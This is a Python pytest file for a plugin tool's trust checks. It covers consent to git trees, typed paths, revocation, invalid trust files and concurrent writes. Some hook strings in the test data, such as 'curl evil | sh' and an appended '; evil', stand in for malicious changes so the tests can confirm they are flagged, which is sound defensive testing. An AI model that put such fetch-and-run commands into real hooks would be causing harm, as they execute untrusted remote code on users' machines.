"""What may run: what the user typed or installed, and the trees that they agreed to."""

from __future__ import annotations

import subprocess
import sys
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path

import pytest

from openhands_strategies.errors import LoadError, TrustError, UsageError
from openhands_strategies.manifest.model import Manifest
from openhands_strategies.manifest.reader import read_manifest
from openhands_strategies.project.changes import capability_difference, capability_lines
from openhands_strategies.project.home import Home
from openhands_strategies.project.toml_file import FileError
from openhands_strategies.project.trust import (
    check_trust,
    is_trusted,
    listed,
    may_fetch,
    revoke,
    trust,
    trust_path,
)
from openhands_strategies.project.trust_facts import NotTrusted
from openhands_strategies.project.trust_file import TrustedPath, TrustedTree
from openhands_strategies.sources.path import locate_path
from openhands_strategies.sources.reference import PathReference
from openhands_strategies.sources.source import DistributionSource, GitSource, Located
from openhands_strategies.sources.store import put_tree
from openhands_strategies.sources.tree import hash_tree, tree_files

from .conftest import strategy

URL = "https://example.org/acme/strategies"
NOW = datetime(2030, 1, 2, 3, 4, 5, tzinfo=UTC)


def tree_of(located: Located) -> str:
    return hash_tree(located.root, tree_files(located.root, located.only))


def stored(home: Home, root: Path, commit: str = "1" * 40) -> tuple[Located, str, Manifest]:
    """A git strategy as a fetch leaves it in the store."""
    put = put_tree(home.store, root, tree_files(root))
    source = GitSource(URL, commit, "plugins/debate", "v2")
    reference = f"git+{URL}@v2#subdirectory=plugins/debate"
    located = Located(reference, source, put.path, "strategy.py", tree=put.tree)
    return located, put.tree, read_manifest(put.path, "strategy.py")


def refused(located: Located, tree: str, manifest: Manifest | None = None) -> NotTrusted:
    with pytest.raises(NotTrusted) as caught:
        check_trust(located, tree, manifest)
    assert isinstance(caught.value, TrustError)
    assert (caught.value.code, caught.value.exit_code) == ("not_trusted", 4)
    assert not is_trusted(located, tree)
    return caught.value


def test_a_typed_path_and_an_installed_distribution_are_trusted(tmp_path: Path, home: Home) -> None:
    (tmp_path / "x.py").write_text("")
    typed = locate_path(PathReference("./x.py"), tmp_path)
    installed = Located("x", DistributionSource("x", "1", "x:X"), tmp_path, "x.py", name="x")
    check_trust(typed, tree_of(typed))
    check_trust(installed, tree_of(typed))
    check_trust(replace(installed, typed=False), tree_of(typed))
    assert trust(installed, tree_of(typed)) is None
    assert list(home.path.iterdir()) == []


def test_a_git_tree_needs_consent_to_exactly_this_tree(tmp_path: Path, home: Home) -> None:
    root = strategy(tmp_path / "debate", hook="./check.sh --all")
    located, tree, manifest = stored(home, root)
    error = refused(located, tree, manifest)
    assert error.message == (
        f"strategy 'debate' ({located.reference} at commit {'1' * 40}) is not trusted,"
        " and it has 1 hook"
    )
    assert error.hint == f"look at it and agree: ohs trust '{located.reference}'"
    facts = error.facts.to_json()
    assert facts["source"] == located.source.to_json()
    assert (facts["commit"], facts["tree"]) == ("1" * 40, tree)
    assert facts["capabilities"]["hooks"] == ["stop *: ./check.sh --all (hooks/hooks.json)"]
    assert (facts["last"], facts["difference"], facts["files"]) == (None, None, None)

    record = trust(located, tree, manifest, now=NOW)
    assert isinstance(record, TrustedTree)
    assert (record.commit, record.date) == ("1" * 40, "2030-01-02T03:04:05+00:00")
    check_trust(located, tree, manifest)
    assert listed() == [record]
    # The same content at another commit is the same tree; other content asks again.
    check_trust(stored(home, root, "2" * 40)[0], tree, manifest)

    strategy(root, hook="curl evil | sh")
    changed, other, manifest = stored(home, root, "3" * 40)
    error = refused(changed, other, manifest)
    assert "changed since you agreed to it and is not trusted" in error.message
    assert error.facts.last == record
    assert error.facts.difference.to_json() == {
        "added": {"hooks": ["stop *: curl evil | sh (hooks/hooks.json)"]},
        "removed": {"hooks": ["stop *: ./check.sh --all (hooks/hooks.json)"]},
    }
    assert error.facts.files is not None
    assert error.facts.files.to_json() == {
        "added": [], "removed": [], "changed": ["hooks/hooks.json"],
    }  # fmt: skip


def test_typed_git_is_not_trusted_either(tmp_path: Path, home: Home) -> None:
    located, tree, manifest = stored(home, strategy(tmp_path / "debate"))
    for typed in (True, False):
        refused(replace(located, typed=typed), tree, manifest)


def test_a_store_that_was_tampered_with(tmp_path: Path, home: Home) -> None:
    located, tree, manifest = stored(home, strategy(tmp_path / "debate"))
    trust(located, tree, manifest)
    other = "sha256:" + "0" * 64
    with pytest.raises(LoadError) as caught:
        check_trust(located, other, manifest)
    assert caught.value.code == "store_damaged"


def test_a_path_that_merely_stands_in_a_file_needs_consent(tmp_path: Path, home: Home) -> None:
    strategy(tmp_path / "evil")
    typed = locate_path(PathReference("./evil"), tmp_path)
    standing = replace(typed, typed=False, name="evil")
    tree = tree_of(typed)
    assert refused(standing, tree).hint == "look at it and agree: ohs trust evil"
    check_trust(typed, tree)
    # Having typed it once is not remembered; agreeing to this tree is.
    refused(standing, tree)
    record = trust(standing, tree)
    assert isinstance(record, TrustedTree)
    assert record.path == str(tmp_path / "evil")
    check_trust(standing, tree)
    strategy(tmp_path / "evil", description="other")
    refused(standing, tree_of(standing))
    # What the user adds is trusted whatever it holds later.
    trust_path(tmp_path / "evil", now=NOW)
    check_trust(standing, tree_of(standing))
    assert listed()[0] == TrustedPath(str(tmp_path / "evil"), "2030-01-02T03:04:05+00:00")
    refused(replace(standing, source=replace(typed.source, path=tmp_path)), tree_of(standing))


def test_trusting_a_typed_path_needs_no_hash(tmp_path: Path) -> None:
    strategy(tmp_path / "mine")
    typed = locate_path(PathReference("./mine"), tmp_path)
    record = trust(typed, tree_of(typed))
    assert isinstance(record, TrustedPath)
    assert trust(typed, tree_of(typed)) is not None
    assert listed() == [record]


def test_a_repository_that_may_be_fetched_from_may_not_run(tmp_path: Path) -> None:
    strategy(tmp_path / "repository")
    standing = replace(locate_path(PathReference("./repository"), tmp_path), typed=False)
    trust_path(tmp_path / "repository", fetch=True)
    assert may_fetch(tmp_path / "repository")
    assert not may_fetch(tmp_path)
    refused(standing, tree_of(standing))
    trust_path(tmp_path / "repository")
    check_trust(standing, tree_of(standing))


def test_revoking(tmp_path: Path, home: Home) -> None:
    root = strategy(tmp_path / "debate")
    one, tree, manifest = stored(home, root)
    strategy(root, description="other")
    two, other, second = stored(home, root, "2" * 40)
    named = replace(one, name="mine")
    ways = [tree, "mine", URL, f"git+{URL}", one]
    for what in ways:
        trust(named, tree, manifest)
        trust(two, other, second)
        gone = revoke(what)
        expected = {tree} if what in (tree, "mine") else {tree, other}
        assert {record.tree for record in gone if isinstance(record, TrustedTree)} == expected
        refused(one, tree, manifest)
        if len(expected) == 1:
            check_trust(two, other)
            revoke(other)
    assert not home.trust_file.exists()
    with pytest.raises(UsageError) as caught:
        revoke("debate")
    assert caught.value.code == "trust_unknown"
    trust_path(tmp_path)
    assert revoke(str(tmp_path)) != []
    assert [path.name for path in home.path.iterdir()] == ["store"]


@pytest.mark.parametrize(
    "text",
    [
        "version = 2\n",
        "all = true\n",
        "version = 1\nall = true\n",
        "version = 1\n[[tree]]\ntree = '*'\nname = 'x'\ndate = 'x'\n",
        "version = 1\n[[tree]]\ntree = true\nname = 'x'\ndate = 'x'\n",
        "version = 1\n[[path]]\npath = '/'\ndate = 'x'\nuse = 'everything'\n",
        "version = 1\n[[path]]\npath = ['/']\ndate = 'x'\n",
        "version = 1\n[[tree]]\ntree = 'sha256:"
        + "0" * 64
        + "'\nname = 'x'\ndate = 'x'\nhooks = 1\n",
        "version = 1\n[[path]\n",
        "\0",
    ],
)
def test_a_trust_file_that_is_wrong_trusts_nothing(tmp_path: Path, home: Home, text: str) -> None:
    located, tree, manifest = stored(home, strategy(tmp_path / "debate"))
    home.trust_file.write_text(text)
    for call in (
        lambda: check_trust(located, tree, manifest),
        lambda: trust(located, tree, manifest),
        lambda: revoke("debate"),
        listed,
    ):
        with pytest.raises(FileError) as caught:
            call()
        assert caught.value.code == "trust_file_invalid"
    assert home.trust_file.read_text() == text


def test_names_and_paths_of_any_form_are_kept(tmp_path: Path, home: Home) -> None:
    odd = tmp_path / 'a "quoted"\nname\x7f\t\u2028é'
    odd.mkdir()
    trust_path(odd)
    root = strategy(tmp_path / "debate", hook="x\\u001b[31m\\ud800 \\\\ é 🙂")
    located, tree, manifest = stored(home, root)
    record = trust(located, tree, manifest)
    assert listed() == [TrustedPath(str(odd), listed()[0].date), record]
    assert isinstance(record, TrustedTree)
    assert "\x1b" not in str(record.capabilities)
    assert not capability_difference(record.capabilities, capability_lines(manifest.capabilities))
    broken = tmp_path / b"\xff".decode("utf-8", "surrogateescape")
    broken.mkdir()
    with pytest.raises(UsageError) as caught:
        trust_path(broken)
    assert caught.value.code == "path_encoding"


def test_a_change_deep_in_a_long_command_is_a_difference(tmp_path: Path, home: Home) -> None:
    long = "echo " + "a" * 5000
    root = strategy(tmp_path / "debate", hook=long)
    trust(*stored(home, root))
    strategy(root, hook=long + "; evil")
    located, tree, manifest = stored(home, root, "2" * 40)
    added = refused(located, tree, manifest).facts.difference.added
    assert added["hooks"][0].endswith("; evil (hooks/hooks.json)")


def test_the_file_does_not_grow_without_end(tmp_path: Path, home: Home) -> None:
    located, tree, manifest = stored(home, strategy(tmp_path / "debate", hook="x" * 400_000))
    trust(located, tree, manifest)
    trust(replace(located, source=GitSource(URL, "2" * 40)), tree, manifest)
    before = home.trust_file.read_bytes()
    with pytest.raises(UsageError) as caught:
        trust(replace(located, source=GitSource(URL + "2", "2" * 40)), tree, manifest)
    assert caught.value.code == "trust_full"
    assert home.trust_file.read_bytes() == before


def test_eight_processes_trust_at_once(tmp_path: Path, home: Home) -> None:
    script = """
import sys
from pathlib import Path
from openhands_strategies.project.trust import revoke, trust_path
base, number = Path(sys.argv[1]), sys.argv[2]
for turn in range(5):
    trust_path(base / f"{number}-{turn}")
revoke(str(base / f"{number}-0"))
"""
    running = [
        subprocess.Popen([sys.executable, "-c", script, str(tmp_path), str(number)])
        for number in range(8)
    ]
    assert [process.wait(60) for process in running] == [0] * 8
    assert {Path(one.path or "").name for one in listed()} == {
        f"{number}-{turn}" for number in range(8) for turn in range(1, 5)
    }
    assert [path.name for path in home.path.iterdir()] == ["trust.toml"]
